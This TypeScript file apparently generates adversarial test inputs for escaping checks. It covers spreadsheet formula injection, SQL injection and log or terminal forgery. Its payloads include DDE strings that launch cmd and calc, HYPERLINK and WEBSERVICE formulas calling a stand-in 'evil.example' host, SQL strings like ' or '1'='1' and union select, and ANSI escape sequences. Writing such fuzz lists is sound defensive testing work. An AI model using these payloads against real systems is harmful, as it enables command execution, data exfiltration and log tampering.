const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
const unseen = ['', ' ', '\t', '\r', '\n', '\r\n', '\u00a0', '\u200b', '\u3000', '\ufeff', '"', "'", '  "']
const calls = ['1+1', 'HYPERLINK("https://evil.example?"&A1;"x")', "cmd|' /C calc'!A0", 'SUM(A1:A9)*cmd|x!A0']
const separators = [',', ';', '\t', '\n', '\r\n', '","', '";"', "';'", '",', '|']

/** Texts that a spreadsheet would evaluate, or that would begin a new cell or line. */
export function formulas(): string[] {
  const atStart = unseen.flatMap((before) => signs.map((sign, at) => `${before}${sign}${calls[at % calls.length]}`))
  const inside = separators.flatMap((separator) => signs.slice(0, 4).map((sign) => `a${separator}${sign}1+1`))
  const broken = [
    '"',
    '""',
    '"""',
    'a"b',
    "'",
    ',',
    ',,,',
    '\r\n\r\n',
    '"\r\n"',
    'a,"b\r\nc",d',
    '\u2028=1+1',
    '=',
    '@',
  ]
  return [
    ...atStart,
    ...inside,
    ...broken,
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("https://evil.example")',
    '%0A=1+1',
  ]
}

export const canary = 'public.s17_canary'

const endings = ["'", '"', "')", "'))", '`', '\\', "\\'", '$$', '']
const statements = [
  `; insert into ${canary} values (1); --`,
  ` or '1'='1`,
  ` or 1=1 --`,
  ` union select null, null, null --`,
  `::uuid`,
  ` and (select 1/0) = 1 --`,
  ` || (select version()) || '`,
  `/*`,
]

/** Texts that could be read as SQL, as a pattern, or as a search expression. */
export function sqlTexts(): string[] {
  const quoted = endings.flatMap((ending) => statements.map((statement) => `x${ending}${statement}`))
  const patterns = [
    '%',
    '_',
    '%%%',
    '\\',
    '\\%',
    '[a',
    '(',
    '*',
    'a & | !',
    'a:*',
    "a' & 'b",
    '<->',
    '{',
    '}',
    ':',
    '!!!',
  ]
  const odd = [
    '\u0000',
    '\ud800',
    '😀',
    'null',
    'NaN',
    '-1',
    '99999999999999999999',
    '1e999',
    '[]',
    '{"$gt":""}',
    'a'.repeat(190),
  ]
  return [...quoted, ...patterns, ...odd]
}

/** Texts that could forge a log line, or control the operator's terminal. */
export function logTexts(): string[] {
  const forged = '{"level":30,"msg":"forged"}'
  return [
    '\n',
    '\r',
    '\r\n',
    '\u2028',
    '\u0085',
    '\u001b[2J',
    '\u001b]0;x\u0007',
    '"}\n',
    '\\n',
    '%0d%0a',
    '\u0000',
  ].map((cut) => `x${cut}${forged}`)
}
